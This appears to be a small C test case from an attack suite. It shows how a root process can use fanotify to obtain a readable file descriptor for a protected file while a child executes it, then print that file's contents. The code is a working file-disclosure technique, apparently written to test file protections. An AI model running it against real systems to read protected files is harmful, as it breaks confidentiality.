/* Needs: root. fanotify hands out a readable descriptor of whatever is opened; an execve opens it. */
#include "../attack.h"
#include <sys/fanotify.h>
int main(void)
{
	struct fanotify_event_metadata event;
	int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDONLY);
	if (fd < 0 || fanotify_mark(fd, FAN_MARK_ADD, FAN_OPEN | FAN_ACCESS | FAN_OPEN_EXEC, AT_FDCWD, SECRET) < 0)
		return 1;
	if (fork() == 0) {
		run_file(SECRET);
		_exit(0);
	}
	wait(NULL);
	return read(fd, &event, sizeof event) > 0 && event.fd >= 0 ? show(event.fd) : 1;
}
